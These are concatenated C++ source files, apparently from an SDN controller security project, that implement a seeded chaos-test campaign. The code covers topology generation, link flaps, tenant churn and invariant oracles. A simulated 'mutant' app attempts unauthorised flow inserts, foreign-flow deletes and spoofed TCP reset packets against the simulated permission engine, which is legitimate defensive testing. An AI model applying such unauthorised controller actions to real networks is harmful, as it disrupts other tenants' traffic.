      config.degradationFloor * outcome.baselineResponsesPerSec;
  outcome.invariants.push_back(
      {"graceful_degradation", degradationOk,
       degradationOk ? 0ULL : 1ULL,
       "healthy-app throughput stays above the documented floor"});

  // --- journal recovery oracle --------------------------------------------
  std::string liveDigest = market.digest();
  std::uint64_t recoveryViolations = 0;
  {
    market::AppFactory factory = [&](const std::string& name,
                                     std::uint32_t version)
        -> std::shared_ptr<ctrl::App> {
      (void)version;
      if (name == "dc_routing") return std::make_shared<DcRoutingApp>();
      if (name == "epoch_sentinel") return std::make_shared<EpochSentinelApp>();
      if (name.rfind("tenant_", 0) == 0) {
        std::size_t index = std::stoul(name.substr(7));
        return std::make_shared<TenantApp>(
            name, tenantScope(index), static_cast<std::uint8_t>(index & 0x3f));
      }
      if (name.rfind("mutant_", 0) == 0) {
        std::size_t index = std::stoul(name.substr(7));
        return std::make_shared<MutantApp>(name, plan.mutantSeeds[index],
                                           live.edge);
      }
      return makeAttacker(name);
    };
    ctrl::Controller recoveredController;
    iso::ShieldOptions recoveredOptions;
    recoveredOptions.supervise = false;
    iso::ShieldRuntime recoveredShield(recoveredController, recoveredOptions);
    auto recovered = market::AppMarket::recover(recoveredShield, initialPolicy,
                                                factory, market.journal());
    if (recovered->digest() != liveDigest) recoveryViolations = 1;
  }
  outcome.invariants.push_back(
      {"journal_recovery", recoveryViolations == 0, recoveryViolations,
       "post-campaign journal replay reproduces the live market digest"});

  // --- measured extras ----------------------------------------------------
  outcome.auditDropped = controller.audit().droppedCount();
  outcome.quarantinedTotal = shield.supervisor().quarantinedTotal();
  {
    std::ostringstream health;
    bool first = true;
    for (const Member& member : members) {
      if (!first) health << ", ";
      first = false;
      health << member.name << "="
             << iso::toString(shield.supervisor().health(member.id));
    }
    outcome.healthTimeline = health.str();
  }
  // Detach before the shield/market destructors run so their teardown
  // traffic takes the inline path and nothing references the runtime after
  // it stops.
  shardRuntime.detachEngine(shield.engine());
  shardRuntime.detach(controller);
  shardRuntime.stop();
  return outcome;
}

}  // namespace

Scorecard Campaign::run() {
  Scorecard card;
  card.config = config_;

  CampaignPlan plan = buildPlan(config_);
  std::uint64_t digest = fnv1a(kFnvOffset, plan.toString());
  digest = fnv1a(digest, std::to_string(config_.seed));

  runMegaPhase(config_, card, digest);
  LiveOutcome live = runLivePhase(config_, plan, digest);

  card.invariants.insert(card.invariants.end(), live.invariants.begin(),
                         live.invariants.end());
  card.attackers = live.attackers;
  card.planDigest = hex64(digest);

  if (config_.measured) {
    std::ostringstream measured;
    auto counter = [&](const char* name) {
      return obs::Registry::global().counter(name).value();
    };
    measured << "{\"baseline_responses_per_sec\": "
             << static_cast<std::uint64_t>(live.baselineResponsesPerSec)
             << ", \"campaign_responses_per_sec\": "
             << static_cast<std::uint64_t>(live.campaignResponsesPerSec)
             << ", \"cbench_retry_attempts\": "
             << counter("cbench.retry.attempts")
             << ", \"cbench_retry_rounds\": " << counter("cbench.retry.rounds")
             << ", \"audit_dropped\": " << live.auditDropped
             << ", \"supervisor_quarantined\": " << live.quarantinedTotal
             << ", \"health\": \"" << jsonEscape(live.healthTimeline) << "\"}";
    card.measuredJson = measured.str();
  }
  return card;
}

}  // namespace sdnshield::campaign
