#include "campaign/plan.h"

#include <algorithm>
#include <sstream>
#include <stdexcept>

#include "campaign/topo_gen.h"

namespace sdnshield::campaign {

std::uint64_t fnv1a(std::uint64_t h, const std::string& text) {
  for (char c : text) {
    h ^= static_cast<unsigned char>(c);
    h *= 1099511628211ULL;
  }
  return h;
}

std::string MarketOp::toString() const {
  std::ostringstream out;
  out << "step " << step << " ";
  switch (kind) {
    case Kind::kInstallTenant:
      out << "install extra_tenant_" << index;
      break;
    case Kind::kUpgradeTenant:
      out << "upgrade tenant_" << index;
      break;
    case Kind::kUninstallTenant:
      out << "uninstall tenant_" << index;
      break;
    case Kind::kRevokeTenant:
      out << "revoke tenant_" << index;
      break;
    case Kind::kUpdatePolicy:
      out << "update_policy variant_" << index;
      break;
  }
  return out.str();
}

std::string CampaignPlan::toString() const {
  std::ostringstream out;
  for (const MarketOp& op : ops) out << op.toString() << "\n";
  for (std::uint64_t seed : mutantSeeds) out << "mutant_seed " << seed << "\n";
  out << "revoked_tenant " << revokedTenant << "\n";
  return out.str();
}

CampaignPlan buildPlan(const CampaignConfig& config) {
  if (config.tenants < 4) {
    throw std::invalid_argument("buildPlan: need at least 4 initial tenants");
  }
  if (config.steps < 10) {
    throw std::invalid_argument("buildPlan: need at least 10 steps");
  }
  CampaignPlan plan;
  std::uint64_t rng = config.seed ^ 0x7d3c1f2e9ab54068ULL;

  // Policy alternation: every ~5 steps, toggling between the two variants
  // (the epoch-consistency prober exploits exactly this churn).
  std::size_t variant = 1;
  for (std::size_t step = 2; step + 1 < config.steps; step += 5) {
    plan.ops.push_back(
        {MarketOp::Kind::kUpdatePolicy, step, variant});
    variant ^= 1;
  }

  // Extra tenants arrive spread over the middle of the run.
  for (std::size_t i = 0; i < config.extraTenants; ++i) {
    std::size_t step = 2 + nextRandom(rng) % (config.steps - 4);
    plan.ops.push_back({MarketOp::Kind::kInstallTenant, step, i});
  }

  // One upgrade, one uninstall, one revocation, on three distinct initial
  // tenants. The revocation lands by mid-run so the silence oracle gets a
  // long observation window.
  plan.ops.push_back(
      {MarketOp::Kind::kUpgradeTenant, 3 + nextRandom(rng) % (config.steps / 2),
       0});
  plan.ops.push_back({MarketOp::Kind::kUninstallTenant,
                      config.steps / 2 + nextRandom(rng) % (config.steps / 3),
                      1});
  plan.revokedTenant = 2;
  plan.ops.push_back({MarketOp::Kind::kRevokeTenant,
                      2 + nextRandom(rng) % (config.steps / 3),
                      plan.revokedTenant});

  std::stable_sort(plan.ops.begin(), plan.ops.end(),
                   [](const MarketOp& a, const MarketOp& b) {
                     return a.step < b.step;
                   });

  for (std::size_t i = 0; i < config.mutants; ++i) {
    plan.mutantSeeds.push_back(nextRandom(rng));
  }
  return plan;
}

}  // namespace sdnshield::campaign
