// The seeded campaign plan: a pure function of CampaignConfig. Everything
// the campaign will do — which apps exist, which market operations fire at
// which step, which policies alternate — is decided here before any thread
// starts, so two runs with one seed execute the same plan and the scorecard
// digest is a replayable bug-report identifier.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "of/types.h"

namespace sdnshield::campaign {

struct CampaignConfig {
  std::uint64_t seed = 1;

  // --- live market phase ---------------------------------------------------
  /// k for the live (simulated, packet-carrying) fat-tree. Kept modest by
  /// default: every switch gets a cbench probe thread and every app a
  /// container thread.
  std::size_t liveFatTreeK = 4;
  std::size_t tenants = 6;       ///< Installed before the storm starts.
  std::size_t extraTenants = 2;  ///< Installed live, mid-churn.
  std::size_t mutants = 3;
  bool attackers = true;  ///< Install the four Table I attackers.
  std::size_t steps = 30;
  std::size_t stepMs = 15;
  /// Probability per eligible visit for the probabilistic fault storm at
  /// the container.*/ksd.*/market.* sites (0 disables the storm).
  double faultProbability = 0.01;
  std::size_t auditCapacity = 8192;
  /// Audited permission denials after which the campaign operator revokes
  /// an app. The benign population is in-scope by construction, so a single
  /// denial is already conclusive evidence of misbehaviour.
  std::uint64_t denialThreshold = 1;
  /// Healthy-app throughput under attack+storm must stay above
  /// degradationFloor * attacker-free baseline.
  double degradationFloor = 0.15;
  /// Wall-clock length of each throughput measurement window.
  std::size_t measureMs = 400;

  // --- mega topology phase (pure net::Topology, no threads) ---------------
  /// k=32 = 1,280 switches: the datacenter-scale fabric the flap/translation
  /// oracles run against (the live phase stays small because every switch
  /// there carries a probe thread).
  std::size_t megaFatTreeK = 32;
  std::size_t megaSpines = 24;
  std::size_t megaLeaves = 1000;
  std::size_t megaSteps = 12;
  std::size_t megaFlaps = 10;
  std::size_t megaDisconnects = 2;
  /// Seeded shortest-path queries and per-tenant virtual translations
  /// evaluated per flap step.
  std::size_t megaQueriesPerStep = 32;

  /// Include wall-clock-dependent measurements in the scorecard. Off by
  /// default: the default scorecard is byte-identical across runs.
  bool measured = false;

  /// Controller shard count for the live phase (shard::ShardRuntime loops).
  /// Deliberately NOT part of the scorecard: any shard count must produce
  /// the same scorecard for one seed — the campaign-level determinism
  /// differential that CI enforces (shards=1 vs shards=4, cmp byte-equal).
  std::size_t shards = 1;
};

/// One scheduled market operation.
struct MarketOp {
  enum class Kind {
    kInstallTenant,    ///< Install extra tenant #index.
    kUpgradeTenant,    ///< Upgrade initial tenant #index to version 2.
    kUninstallTenant,  ///< Uninstall initial tenant #index.
    kRevokeTenant,     ///< Revoke initial tenant #index (silence oracle).
    kUpdatePolicy,     ///< Swap to policy variant #index (0/1 alternating).
  };
  Kind kind = Kind::kUpdatePolicy;
  std::size_t step = 0;
  std::size_t index = 0;

  std::string toString() const;
};

struct CampaignPlan {
  std::vector<MarketOp> ops;
  std::vector<std::uint64_t> mutantSeeds;
  /// Initial tenant singled out for the scheduled revocation (the
  /// revoked-app-silence oracle watches its rule count afterwards).
  std::size_t revokedTenant = 0;

  std::string toString() const;
};

/// Deterministic plan derivation. Requires config.tenants >= 4 (the churn
/// schedule upgrades, uninstalls and revokes three distinct tenants).
CampaignPlan buildPlan(const CampaignConfig& config);

/// FNV-1a over a string — the scorecard's plan_digest accumulator.
std::uint64_t fnv1a(std::uint64_t h, const std::string& text);
inline constexpr std::uint64_t kFnvOffset = 1469598103934665603ULL;

}  // namespace sdnshield::campaign
