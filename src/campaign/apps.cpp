#include "campaign/apps.h"

#include <sstream>

#include "campaign/topo_gen.h"
#include "controller/services.h"

namespace sdnshield::campaign {

// --- DcRoutingApp -----------------------------------------------------------------

std::string DcRoutingApp::requestedManifest() const {
  return "APP dc_routing\n"
         "PERM visible_topology\n"
         "PERM pkt_in_event\n"
         "PERM send_pkt_out LIMITING FROM_PKT_IN\n"
         "PERM insert_flow\n";
}

void DcRoutingApp::init(ctrl::AppContext& context) {
  context_ = &context;
  context.subscribePacketIn(
      [this](const ctrl::PacketInEvent& event) { onPacketIn(event); });
}

void DcRoutingApp::onPacketIn(const ctrl::PacketInEvent& event) {
  const of::PacketIn& packetIn = event.packetIn;
  of::HeaderFields fields = packetIn.packet.fields(packetIn.inPort);
  if (!fields.ipDst || !fields.ipSrc) {
    dropped_.fetch_add(1);
    return;
  }
  auto topologyResponse = context_->api().readTopology();
  if (!topologyResponse.ok()) return;
  const net::Topology& topology = topologyResponse.value();
  std::optional<net::Host> dst = topology.hostByIp(*fields.ipDst);
  std::optional<net::Host> src = topology.hostByIp(*fields.ipSrc);
  if (!dst || !src) {
    dropped_.fetch_add(1);
    return;
  }

  of::FlowMatch match;
  match.ethType = fields.ethType;
  match.ethDst = packetIn.packet.eth.dst;
  match.ipDst = of::MaskedIpv4{*fields.ipDst};
  auto mods = ctrl::buildPathFlowMods(topology, *src, *dst, match, 10);
  if (!mods || mods->empty()) {
    dropped_.fetch_add(1);
    return;
  }
  if (context_->api().commitFlowTransaction(*mods).ok()) {
    paths_.fetch_add(1);
  }

  of::PortNo releasePort = dst->dpid == packetIn.dpid ? dst->port
                                                      : of::ports::kNone;
  if (releasePort == of::ports::kNone) {
    if (const auto* firstOut = std::get_if<of::OutputAction>(
            &(*mods)[0].second.actions.front())) {
      releasePort = firstOut->port;
    } else {
      return;
    }
  }
  of::PacketOut out;
  out.dpid = packetIn.dpid;
  out.inPort = packetIn.inPort;
  out.packet = packetIn.packet;
  out.fromPacketIn = true;
  out.actions.push_back(of::OutputAction{releasePort});
  context_->api().sendPacketOut(out);
}

// --- TenantApp --------------------------------------------------------------------

TenantApp::TenantApp(std::string name, std::vector<of::DatapathId> scope,
                     std::uint8_t subnet)
    : name_(std::move(name)), scope_(std::move(scope)), subnet_(subnet) {}

std::string TenantApp::requestedManifest() const {
  std::ostringstream out;
  out << "APP " << name_ << "\nPERM insert_flow LIMITING SWITCH {";
  for (std::size_t i = 0; i < scope_.size(); ++i) {
    if (i != 0) out << ",";
    out << scope_[i];
  }
  out << "}\n";
  return out.str();
}

void TenantApp::init(ctrl::AppContext& context) { context_ = &context; }

void TenantApp::tick() {
  if (context_ == nullptr || scope_.empty()) return;
  std::uint64_t round = round_.fetch_add(1);
  of::DatapathId dpid = scope_[round % scope_.size()];
  of::FlowMod mod;
  mod.command = of::FlowModCommand::kAdd;
  mod.match.ethType = static_cast<std::uint16_t>(of::EtherType::kIpv4);
  // A rotating window of 16 distinct destinations: re-inserting an existing
  // match is an update, so per-tenant table growth is bounded.
  mod.match.ipDst = of::MaskedIpv4{of::Ipv4Address(
      172, static_cast<std::uint8_t>(16 + subnet_),
      static_cast<std::uint8_t>(round % 16), 1)};
  mod.priority = 5;
  mod.actions.push_back(of::OutputAction{1});
  ctrl::ApiResult result = context_->api().insertFlow(dpid, mod);
  if (result.ok()) {
    installed_.fetch_add(1);
  } else if (result.code() == ctrl::ApiErrc::kPermissionDenied) {
    denied_.fetch_add(1);
  } else {
    shed_.fetch_add(1);
  }
}

// --- MutantApp --------------------------------------------------------------------

MutantApp::MutantApp(std::string name, std::uint64_t seed,
                     std::vector<of::DatapathId> targets)
    : name_(std::move(name)), seed_(seed), targets_(std::move(targets)) {}

std::string MutantApp::requestedManifest() const {
  // Over-privileged on purpose, like the Table I attackers: the market's
  // policy bound truncates this to read-mostly permissions.
  return "APP " + name_ +
         "\n"
         "PERM visible_topology\n"
         "PERM insert_flow\n"
         "PERM delete_flow\n"
         "PERM send_pkt_out LIMITING ARBITRARY\n"
         "PERM read_statistics\n"
         "PERM network_access\n";
}

void MutantApp::init(ctrl::AppContext& context) { context_ = &context; }

void MutantApp::tick() {
  if (context_ == nullptr || targets_.empty()) return;
  // Each tick derives its own stream from (seed, tick index) so the call
  // mix is deterministic per tick even when ticks interleave across
  // threads.
  std::uint64_t stream = seed_ ^ (ticks_.fetch_add(1) * 0x9e3779b97f4a7c15ULL);
  std::uint64_t r = nextRandom(stream);
  of::DatapathId dpid = targets_[nextRandom(stream) % targets_.size()];
  attempts_.fetch_add(1);
  ctrl::ApiResult result;
  switch (r % 4) {
    case 0: {  // Out-of-grant insert with a randomized predicate.
      of::FlowMod mod;
      mod.command = of::FlowModCommand::kAdd;
      mod.match.ethType = static_cast<std::uint16_t>(of::EtherType::kIpv4);
      mod.match.ipDst = of::MaskedIpv4{
          of::Ipv4Address(static_cast<std::uint8_t>(nextRandom(stream)),
                          static_cast<std::uint8_t>(nextRandom(stream)), 0, 0),
          of::Ipv4Address::prefixMask(16)};
      mod.priority = static_cast<std::uint16_t>(nextRandom(stream) % 4096);
      mod.actions.push_back(of::OutputAction{
          static_cast<of::PortNo>(1 + nextRandom(stream) % 4)});
      result = context_->api().insertFlow(dpid, mod);
      break;
    }
    case 1: {  // Foreign-flow delete.
      of::FlowMatch match;
      match.ethType = static_cast<std::uint16_t>(of::EtherType::kIpv4);
      result = context_->api().deleteFlow(dpid, match, /*strict=*/false, 0);
      break;
    }
    case 2: {  // Arbitrary (not packet-in-derived) packet-out.
      of::PacketOut out;
      out.dpid = dpid;
      out.packet = of::Packet::makeTcp(
          of::MacAddress::fromUint64(0x666 + (nextRandom(stream) & 0xff)),
          of::MacAddress::fromUint64(0x1),
          of::Ipv4Address(10, 66, 6, static_cast<std::uint8_t>(r)),
          of::Ipv4Address(10, 0, 0, 1), 1337, 80, of::tcpflags::kRst);
      out.fromPacketIn = false;
      out.actions.push_back(of::OutputAction{1});
      result = context_->api().sendPacketOut(out);
      break;
    }
    default: {  // Statistics read (often allowed — a realistic mixed diet).
      of::StatsRequest request;
      request.level = of::StatsLevel::kSwitch;
      request.dpid = dpid;
      auto response = context_->api().readStatistics(request);
      result = response.ok() ? ctrl::ApiResult::success()
                             : ctrl::ApiResult::failure(response.error());
      break;
    }
  }
  if (result.ok()) {
    allowed_.fetch_add(1);
  } else if (result.code() == ctrl::ApiErrc::kPermissionDenied) {
    denied_.fetch_add(1);
  }
}

}  // namespace sdnshield::campaign
