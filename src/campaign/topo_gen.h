// Datacenter-scale topology generation for chaos campaigns: canonical
// fat-tree and leaf-spine fabrics built on net::Topology, plus a seeded
// schedule of link flaps and switch disconnects (the churn the flap
// scheduler replays against the fabric). Everything here is a pure function
// of its inputs — same spec/seed, same fabric and schedule — which is what
// makes a campaign scorecard byte-reproducible.
#pragma once

#include <cstdint>
#include <set>
#include <string>
#include <vector>

#include "net/topology.h"

namespace sdnshield::campaign {

/// A generated fabric plus the structural roles the oracles need (which
/// switches are edge, which pods exist) — recoverable from dpids alone, but
/// kept explicit so oracle code never re-derives layout arithmetic.
struct Fabric {
  net::Topology topology;
  std::vector<net::DatapathId> core;
  std::vector<net::DatapathId> aggregation;  ///< Spines, for leaf-spine.
  std::vector<net::DatapathId> edge;         ///< Leaves, for leaf-spine.
  /// Fat-tree only: edge switches grouped by pod (empty for leaf-spine).
  std::vector<std::vector<net::DatapathId>> pods;
};

/// Canonical k-ary fat-tree (k even): (k/2)^2 core switches, k pods of k/2
/// aggregation + k/2 edge switches — 5k^2/4 switches total (k=30 -> 1125).
/// Hosts are NOT attached; attachHosts() below adds them where a campaign
/// needs endpoints.
Fabric buildFatTree(std::size_t k);

/// Two-tier leaf-spine: every leaf links to every spine (spines=16,
/// leaves=1024 -> 1040 switches).
Fabric buildLeafSpine(std::size_t spines, std::size_t leaves);

/// Attaches @p perEdge hosts to every edge/leaf switch starting at port 1.
/// MAC/IP are derived from (dpid, port) so the assignment is deterministic.
void attachHosts(Fabric& fabric, std::size_t perEdge);

/// One scheduled churn event against a fabric.
struct FlapEvent {
  enum class Kind { kLinkDown, kLinkUp, kSwitchDown, kSwitchUp };
  Kind kind = Kind::kLinkDown;
  std::size_t step = 0;  ///< Campaign step at which the event applies.
  // kLinkDown/kLinkUp: the link's endpoints (with their ports, so kLinkUp
  // can restore the exact wiring). kSwitchDown/kSwitchUp: `a.dpid` names
  // the switch and `links` holds its wiring for restoration.
  net::LinkEnd a;
  net::LinkEnd b;
  std::vector<net::Link> links;

  std::string toString() const;
};

/// Builds a seeded flap schedule over @p fabric: @p flaps link down/up pairs
/// and @p disconnects switch down/up pairs, spread over @p steps campaign
/// steps. Every down event has a matching up event at a later step, so the
/// fabric heals by the end of the schedule. Core/aggregation links and
/// switches only — edge switches keep their hosts reachable through
/// redundant paths, which is what makes "path exists unless partitioned" a
/// checkable oracle.
std::vector<FlapEvent> buildFlapSchedule(const Fabric& fabric,
                                         std::uint64_t seed,
                                         std::size_t steps, std::size_t flaps,
                                         std::size_t disconnects);

/// Applies every event scheduled at @p step to the fabric's topology.
void applyFlapStep(Fabric& fabric, const std::vector<FlapEvent>& schedule,
                   std::size_t step);

/// splitmix64 — the campaign-wide seeded stream primitive.
std::uint64_t nextRandom(std::uint64_t& state);

}  // namespace sdnshield::campaign
