#include "campaign/topo_gen.h"

#include <algorithm>
#include <sstream>
#include <stdexcept>

namespace sdnshield::campaign {

std::uint64_t nextRandom(std::uint64_t& state) {
  std::uint64_t z = (state += 0x9e3779b97f4a7c15ULL);
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

namespace {

// Host-facing ports are 1..16; fabric wiring allocates upward from 17 so a
// generated link never collides with an attachHosts() port.
constexpr net::PortNo kFirstFabricPort = 17;

class PortAllocator {
 public:
  explicit PortAllocator(const std::vector<net::DatapathId>& all) {
    for (net::DatapathId dpid : all) next_[dpid] = kFirstFabricPort;
  }
  net::PortNo next(net::DatapathId dpid) { return next_[dpid]++; }

 private:
  std::map<net::DatapathId, net::PortNo> next_;
};

void wire(Fabric& fabric, PortAllocator& ports, net::DatapathId a,
          net::DatapathId b) {
  fabric.topology.addLink(a, ports.next(a), b, ports.next(b));
}

}  // namespace

Fabric buildFatTree(std::size_t k) {
  if (k < 2 || k % 2 != 0) {
    throw std::invalid_argument("buildFatTree: k must be even and >= 2");
  }
  Fabric fabric;
  const std::size_t half = k / 2;

  // Dpid layout: core 1..(k/2)^2, aggregation 10000+pod*100+i,
  // edge 20000+pod*100+i (i < k/2 <= 50, so per-pod blocks never collide).
  std::vector<net::DatapathId> all;
  for (std::size_t c = 0; c < half * half; ++c) {
    net::DatapathId dpid = 1 + c;
    fabric.core.push_back(dpid);
    all.push_back(dpid);
  }
  fabric.pods.resize(k);
  for (std::size_t p = 0; p < k; ++p) {
    for (std::size_t i = 0; i < half; ++i) {
      net::DatapathId agg = 10000 + p * 100 + i;
      net::DatapathId edge = 20000 + p * 100 + i;
      fabric.aggregation.push_back(agg);
      fabric.edge.push_back(edge);
      fabric.pods[p].push_back(edge);
      all.push_back(agg);
      all.push_back(edge);
    }
  }
  for (net::DatapathId dpid : all) fabric.topology.addSwitch(dpid);

  PortAllocator ports(all);
  for (std::size_t p = 0; p < k; ++p) {
    for (std::size_t i = 0; i < half; ++i) {
      net::DatapathId agg = 10000 + p * 100 + i;
      // Full bipartite agg<->edge inside the pod.
      for (std::size_t e = 0; e < half; ++e) {
        wire(fabric, ports, agg, 20000 + p * 100 + e);
      }
      // Aggregation switch i uplinks to core group i (the canonical k-ary
      // fat-tree core striping).
      for (std::size_t c = 0; c < half; ++c) {
        wire(fabric, ports, agg, 1 + i * half + c);
      }
    }
  }
  return fabric;
}

Fabric buildLeafSpine(std::size_t spines, std::size_t leaves) {
  if (spines == 0 || leaves == 0) {
    throw std::invalid_argument("buildLeafSpine: empty tier");
  }
  Fabric fabric;
  std::vector<net::DatapathId> all;
  for (std::size_t s = 0; s < spines; ++s) {
    net::DatapathId dpid = 100 + s;
    fabric.aggregation.push_back(dpid);
    all.push_back(dpid);
  }
  for (std::size_t l = 0; l < leaves; ++l) {
    net::DatapathId dpid = 10000 + l;
    fabric.edge.push_back(dpid);
    all.push_back(dpid);
  }
  for (net::DatapathId dpid : all) fabric.topology.addSwitch(dpid);
  PortAllocator ports(all);
  for (net::DatapathId leaf : fabric.edge) {
    for (net::DatapathId spine : fabric.aggregation) {
      wire(fabric, ports, leaf, spine);
    }
  }
  return fabric;
}

void attachHosts(Fabric& fabric, std::size_t perEdge) {
  if (perEdge > 16) {
    throw std::invalid_argument("attachHosts: at most 16 hosts per edge");
  }
  for (net::DatapathId dpid : fabric.edge) {
    for (std::size_t p = 1; p <= perEdge; ++p) {
      net::Host host;
      host.dpid = dpid;
      host.port = static_cast<net::PortNo>(p);
      host.mac = of::MacAddress::fromUint64(((dpid & 0xffffffULL) << 8) | p);
      host.ip = of::Ipv4Address(10, static_cast<std::uint8_t>(dpid >> 8),
                                static_cast<std::uint8_t>(dpid & 0xff),
                                static_cast<std::uint8_t>(p));
      fabric.topology.attachHost(host);
    }
  }
}

std::string FlapEvent::toString() const {
  std::ostringstream out;
  switch (kind) {
    case Kind::kLinkDown:
      out << "step " << step << " link-down " << a.dpid << "<->" << b.dpid;
      break;
    case Kind::kLinkUp:
      out << "step " << step << " link-up " << a.dpid << "<->" << b.dpid;
      break;
    case Kind::kSwitchDown:
      out << "step " << step << " switch-down " << a.dpid;
      break;
    case Kind::kSwitchUp:
      out << "step " << step << " switch-up " << a.dpid;
      break;
  }
  return out.str();
}

std::vector<FlapEvent> buildFlapSchedule(const Fabric& fabric,
                                         std::uint64_t seed,
                                         std::size_t steps, std::size_t flaps,
                                         std::size_t disconnects) {
  if (steps < 2) throw std::invalid_argument("buildFlapSchedule: steps < 2");
  std::uint64_t rng = seed ^ 0xc4757a6ed5d4f2a1ULL;
  std::vector<FlapEvent> schedule;

  // Disconnect candidates: core switches (fat-tree) or spines (leaf-spine)
  // — never edge switches, so hosts stay attached.
  std::vector<net::DatapathId> pool =
      fabric.core.empty() ? fabric.aggregation : fabric.core;
  disconnects = std::min(disconnects, pool.size());
  std::set<net::DatapathId> down;
  for (std::size_t i = 0; i < disconnects; ++i) {
    net::DatapathId pick;
    do {
      pick = pool[nextRandom(rng) % pool.size()];
    } while (down.count(pick) != 0);
    down.insert(pick);
    std::size_t at = nextRandom(rng) % (steps - 1);
    std::size_t back = at + 1 + nextRandom(rng) % (steps - 1 - at);
    FlapEvent downEvent;
    downEvent.kind = FlapEvent::Kind::kSwitchDown;
    downEvent.step = at;
    downEvent.a.dpid = pick;
    FlapEvent upEvent = downEvent;
    upEvent.kind = FlapEvent::Kind::kSwitchUp;
    upEvent.step = back;
    // Record the pristine wiring so kSwitchUp restores it exactly.
    for (const net::Link& link : fabric.topology.links()) {
      if (link.a.dpid == pick || link.b.dpid == pick) {
        upEvent.links.push_back(link);
      }
    }
    schedule.push_back(downEvent);
    schedule.push_back(upEvent);
  }

  // Flap candidates: links not touching a disconnect victim (so a link-up
  // never races a removed switch) and with at least one non-edge endpoint
  // (trivially true in both fabrics, kept as a guard).
  std::vector<net::Link> candidates;
  for (const net::Link& link : fabric.topology.links()) {
    if (down.count(link.a.dpid) != 0 || down.count(link.b.dpid) != 0) continue;
    candidates.push_back(link);
  }
  flaps = std::min(flaps, candidates.size());
  std::set<std::size_t> used;
  for (std::size_t i = 0; i < flaps; ++i) {
    std::size_t pick;
    do {
      pick = nextRandom(rng) % candidates.size();
    } while (used.count(pick) != 0);
    used.insert(pick);
    const net::Link& link = candidates[pick];
    std::size_t at = nextRandom(rng) % (steps - 1);
    std::size_t back = at + 1 + nextRandom(rng) % (steps - 1 - at);
    FlapEvent downEvent;
    downEvent.kind = FlapEvent::Kind::kLinkDown;
    downEvent.step = at;
    downEvent.a = link.a;
    downEvent.b = link.b;
    FlapEvent upEvent = downEvent;
    upEvent.kind = FlapEvent::Kind::kLinkUp;
    upEvent.step = back;
    schedule.push_back(downEvent);
    schedule.push_back(upEvent);
  }

  std::stable_sort(schedule.begin(), schedule.end(),
                   [](const FlapEvent& x, const FlapEvent& y) {
                     return x.step < y.step;
                   });
  return schedule;
}

void applyFlapStep(Fabric& fabric, const std::vector<FlapEvent>& schedule,
                   std::size_t step) {
  for (const FlapEvent& event : schedule) {
    if (event.step != step) continue;
    switch (event.kind) {
      case FlapEvent::Kind::kLinkDown:
        fabric.topology.removeLink(event.a.dpid, event.b.dpid);
        break;
      case FlapEvent::Kind::kLinkUp:
        fabric.topology.addLink(event.a.dpid, event.a.port, event.b.dpid,
                                event.b.port);
        break;
      case FlapEvent::Kind::kSwitchDown:
        fabric.topology.removeSwitch(event.a.dpid);
        break;
      case FlapEvent::Kind::kSwitchUp:
        fabric.topology.addSwitch(event.a.dpid);
        for (const net::Link& link : event.links) {
          fabric.topology.addLink(link.a.dpid, link.a.port, link.b.dpid,
                                  link.b.port);
        }
        break;
    }
  }
}

}  // namespace sdnshield::campaign
