// Seed-driven chaos campaign (DESIGN.md §13): datacenter-scale topology
// churn, a mixed benign/attacker app population under market churn and
// cbench load, a probabilistic fault storm at the container.*/ksd.*/market.*
// sites, and continuously evaluated end-to-end invariant oracles. The
// scorecard is deterministic by default (same --seed, byte-identical JSON);
// wall-clock measurements are an opt-in section.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "campaign/plan.h"

namespace sdnshield::campaign {

/// One invariant oracle's verdict. `violations` is an event count that is 0
/// on pass, so the deterministic scorecard stays byte-identical on clean
/// runs and carries the evidence when an invariant breaks.
struct InvariantResult {
  std::string name;
  bool pass = false;
  std::uint64_t violations = 0;
  std::string detail;
};

struct AttackerOutcome {
  std::string name;
  bool contained = false;  ///< Revoked/quarantined (or never admitted).
};

struct Scorecard {
  CampaignConfig config;
  std::string planDigest;  ///< FNV-1a hex over the derived plan + schedules.

  // Mega-topology phase counts — pure computation, always deterministic.
  std::uint64_t fatTreeSwitches = 0;
  std::uint64_t leafSpineSwitches = 0;
  std::uint64_t flapEvents = 0;
  std::uint64_t pathQueries = 0;
  std::uint64_t disconnectedPaths = 0;
  std::uint64_t translations = 0;
  std::uint64_t rejectedTranslations = 0;

  std::vector<InvariantResult> invariants;
  std::vector<AttackerOutcome> attackers;

  /// Wall-clock-dependent extras (throughput numbers, retry/fault/audit
  /// counters, supervisor health, obs histograms). Empty unless
  /// config.measured.
  std::string measuredJson;

  bool allInvariantsPass() const;
  /// Canonical JSON rendering: fixed field order, integers only in the
  /// deterministic sections.
  std::string toJson() const;
};

class Campaign {
 public:
  explicit Campaign(CampaignConfig config);

  /// Runs both phases and evaluates every oracle. Reentrant per instance is
  /// NOT supported; build a fresh Campaign per run.
  Scorecard run();

 private:
  CampaignConfig config_;
};

}  // namespace sdnshield::campaign
