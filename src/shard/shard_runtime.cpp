#include "shard/shard_runtime.h"

#include <condition_variable>
#include <exception>
#include <mutex>
#include <string>
#include <utility>

#include "core/engine/permission_engine.h"
#include "isolation/executor.h"

#if defined(__linux__)
#include <pthread.h>
#include <sched.h>
#endif

namespace sdnshield::shard {

namespace {

struct RuntimeMetrics {
  obs::Counter calls = obs::Registry::global().counter("shard.calls");
  obs::Counter posts = obs::Registry::global().counter("shard.posts");
  obs::Counter inlineRuns = obs::Registry::global().counter("shard.inline");
  obs::Counter fences = obs::Registry::global().counter("shard.fences");
  obs::Counter taskFaults = obs::Registry::global().counter("shard.task_faults");
  obs::Counter pinFailures =
      obs::Registry::global().counter("shard.pin_failures");
};

const RuntimeMetrics& metrics() {
  static const RuntimeMetrics m;
  return m;
}

// Loop-thread identity: which runtime and which shard index own the calling
// thread. Lets call() run inline on its own loop and refuse loop-to-loop
// fences without any lookup.
thread_local const void* t_loopRuntime = nullptr;
thread_local std::size_t t_loopShard = 0;

void pinToCore(std::size_t index) {
#if defined(__linux__)
  unsigned cores = std::thread::hardware_concurrency();
  if (cores == 0) return;
  cpu_set_t set;
  CPU_ZERO(&set);
  CPU_SET(static_cast<int>(index % cores), &set);
  if (::pthread_setaffinity_np(pthread_self(), sizeof(set), &set) != 0) {
    metrics().pinFailures.increment();
  }
#else
  (void)index;
  metrics().pinFailures.increment();
#endif
}

}  // namespace

struct ShardRuntime::Shard {
